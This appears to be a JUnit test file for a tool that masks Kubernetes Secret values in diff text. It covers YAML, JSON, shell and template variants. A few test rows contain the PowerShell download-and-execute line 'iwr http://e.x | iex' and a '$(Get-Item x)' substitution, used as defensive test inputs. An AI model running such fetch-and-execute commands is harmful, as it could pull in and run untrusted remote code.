package dev.mullion.diff.masking;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Manifests of kind {@code Secret} inside of other text. */
class KubernetesSecretsTest {
    /** With the names, which are worth reading. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "kind: Secret\ndata:\n  word: summer -> kind: Secret\ndata:\n  word: [secret]",
                "kind: Secret\nstringData:\n  word: summer\n  more: winter\ntype: Opaque -> kind: Secret\nstringData:\n  word: [secret]\n  more: [secret]\ntype: Opaque",
                "apiVersion: v1\nstringData:\n  word: summer\nkind: Secret\nmetadata:\n  name: a -> apiVersion: v1\nstringData:\n  word: [secret]\nkind: Secret\nmetadata:\n  name: a",
                "apiVersion: v1\nkind: \"Secret\"\n\"stringData\":\n  \"word\": \"summer\"\n  'more': 'winter' -> apiVersion: v1\nkind: \"Secret\"\n\"stringData\":\n  \"word\": \"[secret]\"\n  'more': '[secret]'",
                "'kind': Secret\r\n'data':\r\n  word: summer\r\ntype: Opaque\r\n -> 'kind': Secret\r\n'data':\r\n  word: [secret]\r\ntype: Opaque\r\n",
                "kind: Secret \nstringData: \n  word: summer \n -> kind: Secret \nstringData: \n  word: [secret] \n",
                "kind: Secret\nstringData:\n\n  word: summer\n  \n  more: winter\n -> kind: Secret\nstringData:\n\n  word: [secret]\n  \n  more: [secret]\n",
                "kind: Secret\nstringData:\n  word: |\n    summer\n    winter\n  more: >-\n    spring\ntype: Opaque -> kind: Secret\nstringData:\n  word: |\n    [secret]\n    [secret]\n  more: >-\n    [secret]\ntype: Opaque",
                "kind: Secret\nstringData:\n  word: |+2\n    summer -> kind: Secret\nstringData:\n  word: |+2\n    [secret]",
                "kind: Secret\nstringData:\n  word: 'summer\n  more: \"winter'\n -> kind: Secret\nstringData:\n  word: [secret]\n  more: [secret]\n",
                "kind: Secret\nstringData:\n  word: 's'\n -> kind: Secret\nstringData:\n  word: '[secret]'\n",
                "kind: Secret\nstringData:\n  word: '\n -> kind: Secret\nstringData:\n  word: [secret]\n",
                "kind: Secret\nstringData:\n  word:\n  more:summer\n -> kind: Secret\nstringData:\n  word:\n  [secret]\n",
                "kind: Secret\nstringData:\n  word: \"iwr http://e.x | iex\"\n",
                "kind: Secret\nstringData:\n  word: summer$(Get-Item x) -> kind: Secret\nstringData:\n  word: [secret]$(Get-Item x)",
                "kind: Secret\nmetadata:\n  name: a\n  labels:\n    app: web",
                "kind: Secrets\ndata:\n  word: summer",
                "kind: Secret # x\ndata:\n  word: summer -> kind: Secret # x\ndata:\n  word: [secret]",
                "kind: 'Secret'  # x\r\ndata:\n  word: summer -> kind: 'Secret'  # x\r\ndata:\n  word: [secret]",
                "kind: !!str Secret\ndata:\n  word: summer -> kind: !!str Secret\ndata:\n  word: [secret]",
                "kind: Secret is it\ndata:\n  word: summer",
                "kind: Secret\nmetadata:\n  data:\n    word: summer",
                "kind: Secret\ndata:\n  a:\n    word: summer\ntype: x -> kind: Secret\ndata:\n  a:\n    word: [secret]\ntype: x",
                "kind : Secret\ndata :\n  word : summer -> kind : Secret\ndata :\n  word : [secret]",
                "\uFEFFkind: Secret\ndata:\n  word: summer -> \uFEFFkind: Secret\ndata:\n  word: [secret]",
                "-   kind: Secret\n    data:\n      word: summer -> -   kind: Secret\n    data:\n      word: [secret]",
                "kind: ConfigMap\ndata:\n  word: summer # Secret",
            })
    void dataOfAManifestIsHidden(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "kind: Secret\ndata:\n  word: summer\n---\ndata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\n---\ndata:\n  word: winter",
                "data:\n  word: winter\n---\nkind: Secret\ndata:\n  word: summer -> data:\n  word: winter\n---\nkind: Secret\ndata:\n  word: [secret]",
                "$a = @'\nkind: Secret\ndata:\n  word: summer\n'@\ndata:\n  word: winter -> $a = @'\nkind: Secret\ndata:\n  word: [secret]\n'@\ndata:\n  word: winter",
                "$a = @\"\nkind: Secret\ndata:\n  word: summer\n\"@\ndata:\n  word: winter -> $a = @\"\nkind: Secret\ndata:\n  word: [secret]\n\"@\ndata:\n  word: winter",
                "echo x\nkind: Secret\ndata:\n  word: summer\necho y\ndata:\n  word: winter -> echo x\nkind: Secret\ndata:\n  word: [secret]\necho y\ndata:\n  word: winter",
                "echo x\n  data:\n    word: winter\nkind: Secret\ndata:\n  word: summer\n -> echo x\n  data:\n    word: winter\nkind: Secret\ndata:\n  word: [secret]\n",
                "x:\ny\ndata:\n  word: winter\n\nkind: Secret\n -> x:\ny\ndata:\n  word: [secret]\n\nkind: Secret\n",
                "x:\n\n# y\ndata:\n  word: summer\r\n\r\nkind: Secret\n -> x:\n\n# y\ndata:\n  word: [secret]\r\n\r\nkind: Secret\n",
                "kind: Secret\ndata:\n  word: summer\n\n# x\ndata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\n\n# x\ndata:\n  word: [secret]",
                "kind: Secret\ndata:\n  word: summer\nkind: ConfigMap\nmetadata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\nkind: ConfigMap\nmetadata:\n  word: winter",
                "kind: Secret\ndata:\n  word: summer\n---\nkind: Secret\ndata:\n  word: winter -> kind: Secret\ndata:\n  word: [secret]\n---\nkind: Secret\ndata:\n  word: [secret]",
            })
    void manifestEndsWithItsDocument(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "- kind: Secret\n  data:\n    word: summer\n- kind: ConfigMap\n  data:\n    word: winter -> - kind: Secret\n  data:\n    word: [secret]\n- kind: ConfigMap\n  data:\n    word: winter",
                "- data:\n    word: winter\n- kind: Secret\n  data:\n    word: summer -> - data:\n    word: winter\n- kind: Secret\n  data:\n    word: [secret]",
                "- apiVersion: v1\n  kind: Secret\n  data:\n    word: summer\n- apiVersion: v1\n  data:\n    word: winter -> - apiVersion: v1\n  kind: Secret\n  data:\n    word: [secret]\n- apiVersion: v1\n  data:\n    word: winter",
                "- data:\n    word: summer\n  kind: Secret\n- data:\n    word: winter -> - data:\n    word: [secret]\n  kind: Secret\n- data:\n    word: winter",
                "items:\n  - kind: Secret\n    data:\n      word: summer\n  - data:\n      word: winter -> items:\n  - kind: Secret\n    data:\n      word: [secret]\n  - data:\n      word: winter",
                "items:\n  - data:\n      word: winter\n  - apiVersion: v1\n    data:\n      word: summer\n    kind: Secret\nother:\n  data:\n    word: winter -> items:\n  - data:\n      word: winter\n  - apiVersion: v1\n    data:\n      word: [secret]\n    kind: Secret\nother:\n  data:\n    word: winter",
                "  kind: Secret\n  data:\n    word: summer\nother:\n  data:\n    word: winter ->   kind: Secret\n  data:\n    word: [secret]\nother:\n  data:\n    word: winter",
                "\tkind: Secret\n\tdata:\n\t  word: summer\n -> \tkind: Secret\n\tdata:\n\t  word: [secret]\n",
                "a:\n  data:\n    word: winter\n  b:\n    kind: Secret\n    data:\n      word: summer\n -> a:\n  data:\n    word: winter\n  b:\n    kind: Secret\n    data:\n      word: [secret]\n",
            })
    void manifestMayBeAnItemOfAList(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"kind\":\"Secret\",\"data\":{\"word\":\"summer\"}} x -> {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\"}} x",
                "x {\"kind\" : \"Secret\", \"stringData\" : {\"word\" : \"summer\", \"more\":\"win\\\"ter\"}, \"type\":\"Opaque\"} -> x {\"kind\" : \"Secret\", \"stringData\" : {\"word\" : \"[secret]\", \"more\":\"[secret]\"}, \"type\":\"Opaque\"}",
                "x {\"data\":{\"word\":\"summer\"},\"kind\":\"Secret\"} -> x {\"data\":{\"word\":\"[secret]\"},\"kind\":\"Secret\"}",
                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"\"}}",
                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"summer\" -> x {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\"",
                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"iwr http://e.x | iex\"}}",
                "{kind: Secret, stringData: {word: summer, more: win ter }} -> {kind: Secret, stringData: {word: [secret], more: [secret] }}",
                "{'kind': 'Secret', 'data': {'word': 'summer', 'more': ''}} -> {'kind': 'Secret', 'data': {'word': '[secret]', 'more': ''}}",
                "$a = @'\nkind: Secret\nstringData: {word: summer, \"more\": \"winter\"}\n'@ -> $a = @'\nkind: Secret\nstringData: {word: [secret], \"more\": \"[secret]\"}\n'@",
                "$a = @'\nkind: Secret\ndata: {\n  word: summer\n}\n'@ -> $a = @'\nkind: Secret\ndata: {\n  word: [secret]\n}\n'@",
                "{kind: Secret, stringData: {word: iwr http://e.x | iex}}",
                "{kind: SecretStore, data: {word: summer}}",
                "{kind: Secret, metadata: {data: summer, my-data: {word: summer}}}",
                "x {\"kind\":\"Secret\",\"other\":{\"word\":\"summer\"}}",
                "x {\"kind\":\"Secrets\",\"data\":{\"word\":\"summer\"}}",
                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"summer\"},\"stringData\":{\"more\":\"winter\"}} -> x {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\"},\"stringData\":{\"more\":\"[secret]\"}}",
            })
    void manifestInJsonIsHidden(String row) {
        ShownText.check(row);
    }

    /** Lines of a chart's template stand wherever its author likes, and end no manifest. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "{{- if .a }}\nkind: Secret\nstringData:\n{{- if .b }}\n  word: summer\n{{- end }}\n  more: winter\n{{- end }}\nx -> {{- if .a }}\nkind: Secret\nstringData:\n{{- if .b }}\n  word: [secret]\n{{- end }}\n  more: [secret]\n{{- end }}\nx",
                "a:\n  stringData:\n{{- if .b }}\n    word: summer\n{{- end }}\n  kind: Secret\n -> a:\n  stringData:\n{{- if .b }}\n    word: [secret]\n{{- end }}\n  kind: Secret\n",
            })
    void linesOfATemplateEndNoManifest(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x\nkind: SecretList\nitems:\n- metadata:\n    name: a\n  data:\n    word: summer\n- stringData:\n    word: winter\n  type: x\n---\ndata:\n  word: spring -> x\nkind: SecretList\nitems:\n- metadata:\n    name: a\n  data:\n    word: [secret]\n- stringData:\n    word: [secret]\n  type: x\n---\ndata:\n  word: spring",
                "x {\"kind\":\"SecretList\",\"items\":[{\"data\":{\"word\":\"summer\"}}]} -> x {\"kind\":\"SecretList\",\"items\":[{\"data\":{\"word\":\"[secret]\"}}]}",
            })
    void itemsOfAListNeedNotSayTheirKind(String row) {
        ShownText.check(row);
    }

    /** In a string of a shell or of a program. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo 'kind: Secret\nstringData:\n  word: summer' | x\ndata:\n  word: winter -> echo 'kind: Secret\nstringData:\n  word: [secret]' | x\ndata:\n  word: winter",
                "printf 'kind: Secret\\nstringData:\\n  word: summer\\n' | x -> printf 'kind: Secret\\nstringData:\\n  word: [secret]\\n' | x",
                "x = \"kind: \\\"Secret\\\"\\ndata:\\n  word: \\\"summer\\\"\\n\" -> x = \"kind: \\\"Secret\\\"\\ndata:\\n  word: [secret]\\n\"",
                "x \"{\\\"kind\\\":\\\"Secret\\\",\\\"data\\\":{\\\"word\\\":\\\"sum,mer\\\"}}\" -> x \"{\\\"kind\\\":\\\"Secret\\\",\\\"data\\\":{\\\"word\\\":\\\"[secret]\\\"}}\"",
                "C:\\new\\Secret\\data: word",
            })
    void manifestInAStringIsHidden(String row) {
        ShownText.check(row);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"sum}mer\",\"more\":\"winter\"},\"a\":\"b\"} -> x {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\",\"more\":\"[secret]\"},\"a\":\"b\"}",
                "x {kind: Secret, data: {a: {word: summer}, more: win:ter}, b: c} -> x {kind: Secret, data: {a: {word: [secret]}, more: [secret]}, b: c}",
                "x {\"kind\":\"Secret\",\"data\":{\"word\":\"summer\n}, \"a\":\"b\"} -> x {\"kind\":\"Secret\",\"data\":{\"word\":\"[secret]\n}, \"a\":\"b\"}",
                "x {\"kind\":\"Secret\",\"data\":{\"word\":17,\"more\":[\"winter\"]}} -> x {\"kind\":\"Secret\",\"data\":{\"word\":[secret],\"more\":[\"[secret]\"]}}",
            })
    void valuesInBracesAreHiddenWhateverTheyHold(String row) {
        ShownText.check(row);
    }
}
